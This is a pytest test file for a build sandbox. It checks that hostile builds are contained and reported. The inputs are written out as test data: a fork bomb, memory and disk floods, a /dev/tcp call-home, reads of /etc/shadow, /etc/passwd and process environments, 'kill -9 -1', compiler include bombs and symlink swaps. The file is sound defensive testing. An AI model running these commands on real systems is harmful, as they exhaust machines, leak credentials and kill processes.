"""Builds that fail, hang, fork, fill, spy and lie: each is refused in one sentence, and nothing of it is left."""

from __future__ import annotations

import os
import secrets
import signal
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from bots.building.session import BuildLimits, BuildOrder, BuildResult, run_build
from bots.sandbox.levels import Level
from bots.sandbox.limits import MIB
from tests.bots.building.conftest import running
from tests.waiting import wait_for

SMALL = BuildLimits(seconds=60.0, cpu_seconds=30, memory=256 * MIB, processes=32, most_bytes=32 * MIB, most_files=2000, log_bytes=MIB)
LONGEST_LOG = 40_000

Run = Callable[..., BuildResult]
alone_and_together = pytest.mark.parametrize(
    "is_alone", [pytest.param(True, id="alone"), pytest.param(False, id="together", marks=pytest.mark.slow)]
)
"""With namespaces for each step, and as on a machine that has none for them."""


@pytest.fixture
def shell(level: Level, place: Path) -> Run:
    """Run a script of the shell as a build, and see that no process of it is left."""
    assert not list(place.iterdir())

    def run(script: str, *, limits: BuildLimits = SMALL, products: tuple[str, ...] = (), is_alone: bool = True) -> BuildResult:
        token = f"t{secrets.token_hex(8)}"
        order = BuildOrder(
            {"bot.c": b"int main(void) { return 0; }\n"}, [("sh", "-c", f": {token}\n{script}")], products, is_alone=is_alone
        )
        found = run_build(order, level, limits)
        assert running(token) == []
        assert len(found.log) < LONGEST_LOG
        return found

    return run


def compiled(level: Level, source: str, limits: BuildLimits = SMALL, name: str = "bot.c") -> BuildResult:
    program = "c++" if name.endswith(".cpp") else "cc"
    return run_build(BuildOrder({name: source.encode()}, [(program, "-O2", "-o", "bot", name)], ("bot",)), level, limits)


def test_one_that_fails_says_so_with_its_log(level: Level, place: Path) -> None:
    found = compiled(level, "int main(void { return 0; }\n")
    assert found.problem == "failed: 'cc' ended with exit code 1"
    assert "bot.c:1" in found.log
    assert not found.products


@pytest.mark.slow  # waits for the limit
def test_one_that_loops(shell: Run) -> None:
    assert shell("while :; do :; done", limits=replace(SMALL, cpu_seconds=1)).problem == "used more than 1 seconds of CPU time"


def test_one_that_sleeps(shell: Run) -> None:
    began = time.monotonic()
    assert shell("sleep 600", limits=replace(SMALL, seconds=0.5)).problem == "took more than 0.5 seconds"
    assert time.monotonic() - began < 120  # of the ten minutes that it wants


@alone_and_together
@pytest.mark.slow  # it takes the time that it is given
def test_one_that_forks_for_ever(shell: Run, is_alone: bool) -> None:
    found = shell("f() { f | f & }; f; sleep 600", limits=replace(SMALL, seconds=1.0, cpu_seconds=5), is_alone=is_alone)
    assert found.problem.startswith(("took more than", "used more than", "failed"))


@alone_and_together
def test_one_that_leaves_a_daemon(shell: Run, is_alone: bool) -> None:
    number = f"{70_000_000 + secrets.randbelow(1_000_000)}"
    found = shell(f"(setsid sleep {number} >/dev/null 2>&1 &) & echo done > bot", products=("bot",), is_alone=is_alone)
    assert found.problem == ""
    assert found.products == {"bot": b"done\n"}
    assert running(number) == []


@pytest.mark.slow
def test_one_that_writes_ten_gigabytes(shell: Run) -> None:
    found = shell("i=0; while [ $i -lt 1000 ]; do yes | head -c 10000000 > f$i || exit 1; i=$((i+1)); done")
    assert found.problem == "wrote more than 32 MiB"


def test_one_that_writes_one_endless_file(shell: Run) -> None:
    assert shell("yes > endless").problem in {"wrote more than 32 MiB", "failed: 'sh' ended with exit code 153"}


def test_one_that_makes_files_without_end(shell: Run) -> None:
    assert shell("i=0; while :; do : > f$i; i=$((i+1)); done").problem == "made more than 2000 files"


@pytest.mark.slow
def test_one_that_makes_folders_within_folders(shell: Run) -> None:
    found = shell("while :; do mkdir d; cd d || exit 1; done", limits=replace(SMALL, most_files=500))
    assert found.problem.startswith(("made more than 500 files", "made more than 200 folders within each other"))


def test_one_that_closes_its_folders_to_everybody(shell: Run) -> None:
    assert shell("mkdir -p a/b; echo x > a/b/c; chmod 0 a/b/c a/b a; echo y > bot", products=("bot",)).products == {"bot": b"y\n"}


def test_one_that_floods_its_log(shell: Run) -> None:
    found = shell("yes 'a line of no interest'")
    assert found.problem == "wrote more than 1 MiB to its log"
    assert "bytes are left out" in found.log


def test_one_that_sends_commands_to_the_terminal_of_its_reader(shell: Run) -> None:
    found = shell(r"printf '\033]0;title\007\033[2Jhello\n'; exit 3")
    assert found.problem == "failed: 'sh' ended with exit code 3"
    assert found.log == r"\x1b]0;title\x07\x1b[2Jhello"


def test_one_that_takes_all_memory(shell: Run) -> None:
    found = shell("awk 'BEGIN { x = \"x\"; while (1) x = x x }'")
    assert found.problem.startswith(("failed", "used more than 256 MiB of memory", "was ended by"))


@pytest.mark.slow
def test_one_whose_processes_take_all_memory_together(shell: Run) -> None:
    one = 'awk \'BEGIN { x = "x"; while (length(x) < 60000000) x = x x; system("sleep 600") }\' &\n'
    assert shell(one * 5 + "sleep 600").problem == "used more than 256 MiB of memory"


def test_one_that_calls_home(shell: Run) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        found = shell(f"exec bash -c 'echo hello > /dev/tcp/127.0.0.1/{listening.getsockname()[1]}'")
        assert found.problem == "failed: 'sh' ended with exit code 1"
        with pytest.raises(BlockingIOError):
            listening.accept()


def test_one_that_reads_the_hosts_files(shell: Run, open_folder: Path) -> None:
    database = open_folder / "league.db"
    database.write_text("all its secrets")
    database.chmod(0o666)
    paths = (database, Path("/etc/shadow"), Path("/etc/passwd"), Path.home() / ".bashrc", Path(f"/proc/{os.getpid()}/environ"))
    attempts = [*(f"cat {path} >> bot" for path in paths), f"echo broken > {database}", "test -s bot || exit 9"]
    found = shell("; ".join(attempts), products=("bot",))
    assert found.problem == "failed: 'sh' ended with exit code 9"  # nothing was read
    assert "secrets" not in found.log
    assert database.read_text() == "all its secrets"


@pytest.mark.sampled(1)
@pytest.mark.parametrize(
    "source", ['#include "/dev/zero"\n', '#include "/etc/passwd"\n', '__asm__(".incbin \\"/etc/passwd\\"");\nint main(void) {}\n']
)
def test_a_compiler_that_is_told_to_read_the_hosts_files(level: Level, place: Path, source: str) -> None:
    found = compiled(level, source)
    assert found.problem == "failed: 'cc' ended with exit code 1"
    assert "root:" not in found.log


@pytest.mark.slow
def test_a_compiler_that_is_given_an_endless_task(level: Level, place: Path) -> None:
    bomb = '#if __INCLUDE_LEVEL__ < 60\n#include "bot.c"\n#include "bot.c"\n#endif\n'
    assert compiled(level, bomb, replace(SMALL, cpu_seconds=1)).problem.startswith("used more than 1 seconds of CPU time")


@pytest.mark.slow
def test_templates_that_grow_without_end(level: Level, place: Path) -> None:
    step = "typedef T<T<A, B>, T<B, A>> next; static const int n = next::n;"
    bomb = f"template <class A, class B> struct T {{ {step} }};\nint x = T<int, char>::n;\n"
    found = compiled(level, bomb, replace(SMALL, cpu_seconds=2), "bot.cpp")
    assert found.problem.startswith(("used more than", "failed: 'c++'", "wrote more than"))


@pytest.mark.sampled(3)
@pytest.mark.parametrize(
    ("script", "problem"),
    [
        ("ln -s /etc/passwd bot", "made a link where 'bot' should be; have it make the file itself"),
        ("ln -s bot.c bot", "made a link where 'bot' should be; have it make the file itself"),
        ("mkdir bot", "made a folder where the file 'bot' should be"),
        (":", "succeeded, but left no file 'bot'"),
        ("truncate -s 17M bot", "made a file 'bot' of more than 16 MiB"),
        ("echo x > bot; chmod 0 bot", "made a file 'bot' that can't be read (Permission denied)"),
        ("mkfifo bot", "failed: 'sh' ended with exit code 1"),
        ("mknod bot c 1 5", "failed: 'sh' ended with exit code 1"),
        ("ln /usr/bin/env bot", "failed: 'sh' ended with exit code 1"),
    ],
)
def test_one_whose_product_is_none(shell: Run, script: str, problem: str) -> None:
    found = shell(script, products=("bot",))
    assert found.problem == problem
    assert not found.products


@pytest.mark.sampled(1)
@pytest.mark.parametrize("script", ["ln -s / out", "mkdir real; echo x > real/bot; ln -s real out"])
def test_a_product_behind_a_linked_folder(shell: Run, script: str) -> None:
    assert shell(script, products=("out/bot",)).problem == "made a link where 'out/bot' should be; have it make the file itself"


@pytest.mark.sampled(1)
@pytest.mark.parametrize(
    "script", ["cd ..; mv source gone; ln -s /etc source", "cd ..; rm -rf source; ln -s /etc source", "rm -rf ../spare"]
)
def test_one_that_puts_the_hosts_files_where_its_own_were(shell: Run, script: str) -> None:
    found = shell(f"{script}; exit 0", products=("passwd",))
    assert found.problem == "succeeded, but left no file 'passwd'"


def test_bits_that_would_give_rights_are_not_kept(shell: Run) -> None:
    assert shell("echo x > bot; chmod 6777 bot", products=("bot",)).products == {"bot": b"x\n"}


def test_one_that_signals_everybody(shell: Run) -> None:
    assert shell("kill -9 -1; kill -9 1; kill -9 $PPID; exit 4").problem
    assert shell("echo alive > bot", products=("bot",)).products == {"bot": b"alive\n"}


def test_a_program_that_is_not_there(level: Level, place: Path) -> None:
    assert (
        run_build(BuildOrder({}, [("no-such-compiler",)]), level, SMALL).problem
        == "'no-such-compiler' can't be executed: No such file or directory"
    )


HOST = """
    import tempfile
    from bots.building.session import BuildOrder, run_build
    from bots.sandbox.levels import Level
    tempfile.tempdir = {place!r}
    print("begun", flush=True)
    run_build(BuildOrder({{}}, [("sh", "-c", "(setsid sleep {number} &) & echo; sleep {number}")], is_alone={is_alone}), Level.{level})
"""


@alone_and_together
def test_nothing_is_left_when_the_host_is_killed(level: Level, place: Path, is_alone: bool) -> None:
    number = f"{80_000_000 + secrets.randbelow(1_000_000)}"
    code = textwrap.dedent(HOST).format(place=str(place), number=number, is_alone=is_alone, level=level)
    with subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, cwd=Path(__file__).parents[3]) as host:
        assert host.stdout is not None
        host.stdout.readline()
        wait_for(lambda: len(_sleepers(number)) >= 2)
        host.send_signal(signal.SIGKILL)
        host.wait()
    assert running(f"sleep\0{number}") == []
    wait_for(lambda: not list(place.iterdir()))


def _sleepers(number: str) -> list[str]:
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if path.read_bytes().startswith(b"sleep\0" + number.encode()):
                found.append(path.parent.name)
        except OSError:
            continue
    return found


def test_one_that_does_nothing_is_ended_early_and_one_that_works_is_not(shell: Run) -> None:
    idle = replace(SMALL, idle_seconds=0.3)
    assert shell("while sleep 0.1; do :; done", limits=idle).problem == "let 0.3 seconds pass without doing anything"
    assert shell("i=0; while [ $i -lt 200000 ]; do i=$((i+1)); done; echo done > bot", limits=idle, products=("bot",)).problem == ""
